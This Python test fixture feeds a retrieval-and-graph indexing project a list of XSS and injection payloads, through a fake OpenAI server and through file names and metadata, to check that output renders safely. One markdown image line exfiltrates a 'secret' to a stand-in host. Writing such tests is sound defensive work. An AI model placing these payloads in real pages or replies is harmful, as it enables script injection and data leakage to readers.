"""A corpus, a graph and answers that are made of what turns a page against those who read it."""

import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any

from tests.projects import ProjectFolder, new_project
from tests.servers.openai_inquiries import inquiry_reply
from tests.servers.openai_replies import Messages, content_of, wants_json
from tests.servers.openai_server import OpenAIServer, Reply
from tests.states import set_args

ELSEWHERE = "http://127.0.0.1:9"
"""Another host, as a page sees it; nothing listens there."""
MARKUP = [
    "<script>alert('script')</script>",
    f'<img src="{ELSEWHERE}/img.png" onerror="alert(1)">',
    f"![stolen]({ELSEWHERE}/stolen.png?secret=1)",
    "[press me](javascript:alert('link'))",
    "javascript:alert('name')",
    '"><svg onload="alert(2)"><style>* { display: none }</style>',
    "'-alert(3)-'",
    "</textarea></title></script><script>alert(4)</script>",
    f'<iframe src="{ELSEWHERE}/frame"></iframe>',
    f'<link rel="stylesheet" href="{ELSEWHERE}/style.css"><base href="{ELSEWHERE}/">',
    f'<form action="{ELSEWHERE}/form"><button autofocus onfocus="alert(5)">send</button></form>',
    "{{ 7 * 7 }} ${alert(6)} {% raw %}",
    "\u202egnirts\u202c <b>bold</b>",
    "<a href='data:text/html,<script>alert(7)</script>'>data</a>",
]
ANSWER = "\n\n".join(
    [*MARKUP, f"[a link]({ELSEWHERE}/followed) and [ref:1]", f"<{ELSEWHERE}/auto> {ELSEWHERE}/bare"]
)
QUESTION = f"What of {MARKUP[0]} and {MARKUP[1]}?"


def hostile_reply(messages: Messages, body: Mapping[str, Any]) -> Reply:
    """Of a document: each is an entity, its own type and a keyword, and related to the next. To a
    question: all."""
    prompt = "\n".join(map(content_of, messages))
    if '{"questions": [' in prompt:
        return Reply(json.dumps({"questions": MARKUP[:5]}))
    if "high_level_keywords" in prompt:
        return Reply(
            json.dumps({"high_level_keywords": MARKUP[:3], "low_level_keywords": MARKUP[:3]})
        )
    if (told := inquiry_reply(prompt)) is not None:
        return Reply(told)
    return Reply(json.dumps(_graph()) if wants_json(body) else ANSWER)


def hostile_project(root: Path, postgres_url: str, openai: OpenAIServer) -> ProjectFolder:
    """Titles, names of files and metadata are of the same kind."""
    openai.reply = hostile_reply
    texts = {f"{name.replace('/', '∕')}.txt": f"{name}\n\nText of {name}\n" for name in MARKUP}
    records = [
        {"id": name, "title": name, "text": "\n\n".join(MARKUP), "author": name}
        for name in MARKUP[:3]
    ]
    texts["records.jsonl"] = "\n".join(map(json.dumps, records))
    project = new_project(root, postgres_url, texts, openai, max_reject_ratio=1)
    set_args(project, extract_graph={"format": "json"})
    with_communities = "name: hostile\nextends: index\nsteps:\n  - verb: detect_communities\n"
    (root / "workflows" / "hostile.yaml").write_text(with_communities)
    with project.open(*project.endpoint_overrides) as opened:
        report = opened.run("hostile")
        assert report.outcome in ("completed", "completed_with_rejects"), report
    return project


def _graph() -> dict[str, Any]:
    entities = [{"name": name, "type": name, "description": f"{name} is {name}"} for name in MARKUP]
    ring = zip(MARKUP, [*MARKUP[1:], MARKUP[0]], strict=True)
    return {
        "entities": entities,
        "relationships": [
            {
                "source": one,
                "target": other,
                "description": one,
                "keywords": [one, other],
                "strength": 1,
            }
            for one, other in ring
        ],
    }
